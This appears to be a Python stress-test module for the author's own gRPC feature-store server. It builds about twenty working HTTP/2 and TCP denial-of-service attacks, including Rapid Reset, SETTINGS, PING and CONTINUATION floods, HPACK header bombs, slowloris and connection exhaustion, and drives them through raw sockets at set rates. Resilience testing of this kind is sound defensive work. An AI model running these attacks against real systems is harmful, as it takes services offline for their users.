"""Clients that mean harm, at a rate that is said: bytes made beforehand, written to raw sockets.

    with running(adversary.serve, messages) as it:      a process of its own, which gives way to all others
        it.ask("attack", target, "rapid reset", seconds)

An attack is a few scripts: what one connection writes, burst by burst. Connections take turns; each turn
writes one burst. A connection whose script is over, or which the server has ended, is replaced at its next
turn, so that an attacker who is thrown out is back at once. What the server does not take stays with the
connection, and what the attacker is too late for is left out: it never sends faster than it says.
"""

from __future__ import annotations

import itertools
import os
import resource
import select
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import asdict, dataclass
from multiprocessing.connection import Connection
from typing import Any

import hpack
from hyperframe import frame as frames

from benches.process import INGEST, INGEST_STREAM, READ, SCHEMA, answer
from featurestore.v1 import feature_store_service_pb2 as pb
from featurestore.v1 import types_pb2

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
STREAM = "/featurestore.v1.FeatureStoreService/GetFeaturesStream"
LARGEST_WINDOW = (1 << 31) - 1
WATCH = "/grpc.health.v1.Health/Watch"
INITIAL_WINDOW_SIZE = frames.SettingsFrame.INITIAL_WINDOW_SIZE
NICENESS = 19
READ_BYTES = 1 << 16
RESET = struct.pack("ii", 1, 0)  # SO_LINGER: closing sends RST

Script = list[bytes]
# Frames of no type that anybody knows, which keep a connection: fewer than are taken for a flood.
STAY: Script = [b"\x00\x00\x00\xee\x00\x00\x00\x00\x00"] * 500


@dataclass(frozen=True)
class Attack:
    """unit: what is counted. n: how many of it a burst holds. per_s: bursts a second. scripts: connection k
    writes scripts[k % len(scripts)]. connections: at once. reads: the server's answers are taken. resets: the
    connection is closed with RST instead of FIN.
    """

    unit: str
    n: int
    per_s: float
    scripts: list[Script]
    connections: int = 1
    reads: bool = True
    resets: bool = False


@dataclass
class Done:
    """What an attacker did. sent: units. opened: connections. ended: those of them that the server ended."""

    unit: str
    aimed_per_s: float
    sent: int = 0
    opened: int = 0
    ended: int = 0
    bytes_in: int = 0
    bytes_out: int = 0
    seconds: float = 0.0
    cpu_s: float = 0.0


# -- bytes


def serialized(made: frames.Frame, *flags: str) -> bytes:
    for flag in flags:
        made.flags.add(flag)
    return bytes(made.serialize())


def block(path: str, **more: str) -> bytes:
    """A request's header fields, none of which enters the table: good for any stream. more: with _ for -."""
    named = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "localhost",
        "te": "trailers",
        "content-type": "application/grpc",
        **{name.replace("_", "-"): value for name, value in more.items()},
    }
    never = [hpack.NeverIndexedHeaderTuple(*field) for field in named.items()]
    return bytes(hpack.Encoder().encode(never))


def headers(stream: int, data: bytes, *flags: str) -> bytes:
    return serialized(frames.HeadersFrame(stream, data=data), "END_HEADERS", *flags)


def message(stream: int, body: bytes, *flags: str, length: int | None = None) -> bytes:
    """In one DATA frame. length: what its prefix says where that is not true."""
    prefix = struct.pack(">BI", 0, len(body) if length is None else length)
    return serialized(frames.DataFrame(stream, data=prefix + body), *flags)


def greeting(**settings: int) -> bytes:
    pairs = {getattr(frames.SettingsFrame, name): value for name, value in settings.items()}
    return PREFACE + serialized(frames.SettingsFrame(0, settings=pairs))


def client_hello() -> bytes:
    """The first record that a client of TLS sends."""
    out = ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    begun = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname="localhost")
    with suppress(ssl.SSLWantReadError):  # nobody answers
        begun.do_handshake()
    return out.read()


def bursts(n: int, each: Callable[[int], bytes], n_bursts: int) -> Iterator[bytes]:
    """The i-th stream of a client has number 2 i + 1."""
    for first in range(0, n * n_bursts, n):
        yield b"".join(each(2 * i + 1) for i in range(first, first + n))


def begun(opening: bytes, following: Iterator[bytes]) -> Script:
    first = next(following)
    return [opening + first, *following]


# -- attacks; `messages` are the reads that the others send


def rapid_reset(messages: list[bytes]) -> Attack:
    """CVE-2023-44487: calls that are whole, and given up at once."""
    fields, body = block(READ), messages[0]

    def given_up(stream: int) -> bytes:
        reset = serialized(frames.RstStreamFrame(stream, error_code=8))
        return headers(stream, fields) + message(stream, body, "END_STREAM") + reset

    return Attack("streams", 100, 200, [begun(greeting(), bursts(100, given_up, 100))])


def settings_flood(messages: list[bytes]) -> Attack:
    """CVE-2019-9515: each is to be acknowledged, and changes every stream's window."""
    made = serialized(frames.SettingsFrame(0, settings={INITIAL_WINDOW_SIZE: 1 << 20}))
    return Attack("frames", 200, 500, [begun(greeting(), itertools.repeat(made * 200, 5_000))])


def ping_flood(messages: list[bytes]) -> Attack:
    """CVE-2019-9512."""
    made = serialized(frames.PingFrame(0, opaque_data=b"12345678"))
    return Attack("frames", 200, 500, [begun(greeting(), itertools.repeat(made * 200, 5_000))])


def continuation_flood(messages: list[bytes]) -> Attack:
    """CVE-2024-27316: one header block that does not end."""
    opening = greeting() + serialized(frames.HeadersFrame(1, data=block(READ)))
    made = serialized(frames.ContinuationFrame(1, data=b"\x00\x01x\x01v" * 20))
    return Attack("frames", 200, 500, [begun(opening, itertools.repeat(made * 200, 5_000))])


def empty_data_flood(messages: list[bytes]) -> Attack:
    """CVE-2019-9518: on a stream that goes on and on."""
    opening = greeting() + headers(1, block(STREAM))
    made = serialized(frames.DataFrame(1))
    return Attack("frames", 200, 500, [begun(opening, itertools.repeat(made * 200, 5_000))])


def header_bomb(messages: list[bytes]) -> Attack:
    """A field of 4 KB in the table, and 4,000 references to it of one byte: 16 MB a request."""
    plain = block(READ)
    field = bytes(hpack.Encoder().encode([("x", "v" * 3900)], huffman=False))

    def bomb(stream: int) -> bytes:
        refers = field if stream == 1 else b"\xbe" * 4000
        return headers(stream, plain + refers, "END_STREAM")

    return Attack("requests", 1, 500, [begun(greeting(), bursts(1, bomb, 2000))])


def slow_readers(messages: list[bytes]) -> Attack:
    """Fifty replies of some 25 KB each that may not be sent, on each of a hundred connections."""
    question = pb.GetFeaturesRequest(service="abuse")
    for one in messages[:100]:
        question.key_sets.extend(pb.GetFeaturesRequest.FromString(one).key_sets)
    fields, body = block(READ), question.SerializeToString()

    def asked(stream: int) -> bytes:
        return headers(stream, fields) + message(stream, body, "END_STREAM")

    opening = greeting(INITIAL_WINDOW_SIZE=0)
    return Attack("calls", 5, 100, [begun(opening, bursts(5, asked, 10))], connections=100, reads=False)


def slow_writers(messages: list[bytes]) -> Attack:
    """Slowloris: a byte at a time on each of two hundred connections, from somewhere in a request on."""
    whole = greeting() + headers(1, block(READ)) + message(1, messages[0], "END_STREAM")
    at = [1, len(greeting()) - 4, len(greeting()) + 20, len(whole) - 50]
    scripts = [[whole[:lo], *(whole[i : i + 1] for i in range(lo, len(whole)))] for lo in at]
    return Attack("writes", 1, 2000, scripts, connections=200)


def torn_connections(messages: list[bytes]) -> Attack:
    """By RST, each in another state."""
    open_stream = greeting() + headers(1, block(STREAM))
    scripts = [
        [PREFACE[:7]],
        [greeting()],
        [open_stream],
        [open_stream + message(1, b"x", length=1 << 20)],
        [greeting() + headers(1, block(READ)) + message(1, messages[0], "END_STREAM")],
        [b"GET / HTTP/1.1\r\n\r\n"],
    ]
    return Attack("connections", 1, 1000, scripts, connections=4, resets=True)


def too_many_streams(messages: list[bytes]) -> Attack:
    """A thousand at once on a connection, each with a message that does not end."""
    fields = block(INGEST_STREAM)

    def held(stream: int) -> bytes:
        return headers(stream, fields) + message(stream, b"x", length=1 << 20)

    return Attack("streams", 100, 200, [begun(greeting(), bursts(100, held, 10))])


def malformed_requests(messages: list[bytes]) -> Attack:
    """Calls that are whole and wrong: what is wrong is said in words, which Python finds."""
    fields, body = block(READ), pb.GetFeaturesRequest(service="none").SerializeToString()

    def wrong(stream: int) -> bytes:
        return headers(stream, fields) + message(stream, body, "END_STREAM")

    return Attack("calls", 10, 200, [begun(greeting(), bursts(10, wrong, 1000))])


def unreadable_messages(messages: list[bytes]) -> Attack:
    """Of one byte each, to methods that C answers and to one that Python does: each would fill a log."""
    paths = itertools.cycle((READ, INGEST, SCHEMA))
    fields = {path: block(path) for path in (READ, INGEST, SCHEMA)}

    def wrong(stream: int) -> bytes:
        return headers(stream, fields[next(paths)]) + message(stream, b"\xff", "END_STREAM")

    return Attack("calls", 10, 200, [begun(greeting(), bursts(10, wrong, 1000))])


def large_replies(messages: list[bytes]) -> Attack:
    """Fewer bytes than a loop reads at once, and some megabytes back: thousands of key sets without a key."""
    question = pb.GetFeaturesRequest(service="abuse", bounds=True)
    question.key_sets.extend([types_pb2.KeySet()] * 3500)
    fields, body = block(READ), question.SerializeToString()

    def asked(stream: int) -> bytes:
        return headers(stream, fields) + message(stream, body, "END_STREAM")

    opening = greeting(INITIAL_WINDOW_SIZE=LARGEST_WINDOW)
    opening += serialized(frames.WindowUpdateFrame(0, window_increment=LARGEST_WINDOW - 65_535))
    return Attack("calls", 1, 20, [begun(opening, bursts(1, asked, 200))], connections=4)


def closed_streams(messages: list[bytes]) -> Attack:
    """DATA on streams that have been answered before their request was whole."""
    fields = block("/nobody.has/This")

    def late(stream: int) -> bytes:
        return headers(stream, fields) + serialized(frames.DataFrame(stream, data=b"x")) * 100

    return Attack("streams", 10, 100, [begun(greeting(), bursts(10, late, 500))])


def health_watches(messages: list[bytes]) -> Attack:
    """A hundred watches of the server's health on each of forty connections, which stay."""
    fields = block(WATCH)

    def watched(stream: int) -> bytes:
        return headers(stream, fields) + message(stream, b"", "END_STREAM")

    return Attack("watches", 10, 400, [begun(greeting(), bursts(10, watched, 10)) + STAY], connections=40)


def idle_streams(messages: list[bytes]) -> Attack:
    """As many streams as a connection may have on each of forty, on which nothing is ever sent."""
    fields = block(INGEST_STREAM)
    script = begun(greeting(), bursts(10, lambda stream: headers(stream, fields), 10)) + STAY
    return Attack("streams", 10, 400, [script], connections=40)


def idle_connections(messages: list[bytes]) -> Attack:
    """More than the server takes, each greeted, none with a call. Whoever has to go is back at once."""
    return Attack("connections", 1, 3000, [[greeting(), *STAY]], connections=5000)


def endless_uploads(messages: list[bytes]) -> Attack:
    """A message that does not end, and calls whose time does not either, on each of a hundred connections."""
    fields = block(INGEST_STREAM, grpc_timeout="99999999H")
    opening = greeting() + headers(1, fields) + message(1, bytes(16_000), length=16 << 20)
    piece = serialized(frames.DataFrame(1, data=bytes(16_000)))
    return Attack("frames", 1, 1000, [[opening, *[piece] * 60, *STAY]], connections=100)


def busy_connections(messages: list[bytes]) -> Attack:
    """Large reads, a hundred at once on each of twenty connections, again and again."""
    question = pb.GetFeaturesRequest(service="abuse")
    for one in messages[:100]:
        question.key_sets.extend(pb.GetFeaturesRequest.FromString(one).key_sets)
    fields, body = block(READ), question.SerializeToString() * 4

    def asked(stream: int) -> bytes:
        return headers(stream, fields) + message(stream, body, "END_STREAM")

    return Attack("calls", 5, 40, [begun(greeting(), bursts(5, asked, 40))], connections=20)


def silent_scrapers(messages: list[bytes]) -> Attack:
    """Of the metrics: some say nothing, some half of what they want, some all of it."""
    whole = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n"
    idle = [b""] * 500
    scripts = [[whole[:1], *idle], [whole[:20], *idle], [whole]]
    return Attack("connections", 1, 200, scripts, connections=300)


def hellos(messages: list[bytes]) -> Attack:
    """Handshakes of TLS that are begun, answered and given up."""
    return Attack("hellos", 1, 1400, [[client_hello()]], connections=50)


ATTACKS: dict[str, Callable[[list[bytes]], Attack]] = {
    "rapid reset": rapid_reset,
    "SETTINGS flood": settings_flood,
    "PING flood": ping_flood,
    "CONTINUATION flood": continuation_flood,
    "empty DATA flood": empty_data_flood,
    "header bomb": header_bomb,
    "slow readers": slow_readers,
    "slow writers": slow_writers,
    "torn connections": torn_connections,
    "too many streams": too_many_streams,
    "malformed requests": malformed_requests,
    "unreadable messages": unreadable_messages,
    "large replies": large_replies,
    "closed streams": closed_streams,
    "health watches": health_watches,
    "idle streams": idle_streams,
    "idle connections": idle_connections,
    "endless uploads": endless_uploads,
    "busy connections": busy_connections,
    "silent scrapers": silent_scrapers,
}
OF_METRICS = {"silent scrapers"}  # whose target is the metrics' listener
SECURED = {"hellos": hellos}  # of a server that speaks TLS


# -- carrying it out


class Line:
    """One connection, and what it has yet to write."""

    def __init__(self, target: tuple[str, int], script: Script) -> None:
        self.socket = socket.create_connection(target)
        self.socket.setblocking(False)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self._poll = select.poll()
        self._poll.register(self.socket, select.POLLRDHUP)
        self._script, self._next = script, 0
        self._rest = b""  # of a burst that the server has not taken yet

    @property
    def is_over(self) -> bool:
        return self._next == len(self._script) and not self._rest

    def has_ended(self) -> bool:
        """The server's side."""
        return bool(self._poll.poll(0))

    def read(self) -> int:
        n = 0
        with suppress(OSError):  # nothing there, or reset
            while got := self.socket.recv(READ_BYTES):
                n += len(got)
        return n

    def write(self) -> tuple[int, bool]:
        """Bytes written; whether the burst is now out."""
        if not self._rest:
            self._rest = self._script[self._next]
            self._next += 1
        n = 0
        with suppress(OSError):  # full, or the server has just ended it
            n = self.socket.send(self._rest)
        self._rest = self._rest[n:]
        return n, n > 0 and not self._rest

    def close(self, resets: bool) -> None:
        if resets:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        self.socket.close()


def carry_out(target: tuple[str, int], attack: Attack, seconds: float) -> Done:
    done = Done(attack.unit, attack.per_s * attack.n)
    scripts = itertools.cycle(attack.scripts)
    lines: list[Line | None] = [None] * attack.connections
    cpu_s, began = time.process_time(), time.monotonic()
    due, end = began, began + seconds
    for place in itertools.cycle(range(attack.connections)):
        now = time.monotonic()
        if now >= end:
            break
        if due > now:
            time.sleep(due - now)
        due = max(due + 1 / attack.per_s, now)
        line = lines[place]
        if line is not None and attack.reads:
            done.bytes_in += line.read()
        if line is not None and ((ended := line.has_ended()) or line.is_over):
            done.ended += ended
            line.close(attack.resets)
            line = None
        if line is None:
            with suppress(OSError):  # the server takes no more now
                line = Line(target, next(scripts))
                done.opened += 1
            lines[place] = line
        if line is not None:
            n_bytes, is_out = line.write()
            done.bytes_out += n_bytes
            done.sent += attack.n * is_out
    for line in lines:
        if line is not None:
            done.ended += line.has_ended()
            line.close(attack.resets)
    done.seconds, done.cpu_s = time.monotonic() - began, time.process_time() - cpu_s
    return done


def serve(pipe: Connection, messages: list[bytes]) -> None:
    """For process.running: the command "attack"."""
    os.sched_setscheduler(0, os.SCHED_OTHER, os.sched_param(0))  # whatever class its starter has
    os.setpriority(os.PRIO_PROCESS, 0, NICENESS)
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    made = {name: make(messages) for name, make in (ATTACKS | SECURED).items()}

    def attack(target: str, name: str, seconds: float) -> dict[str, Any]:
        host, _, port = target.rpartition(":")
        return asdict(carry_out((host, int(port)), made[name], seconds))

    answer(pipe, {"attack": attack})
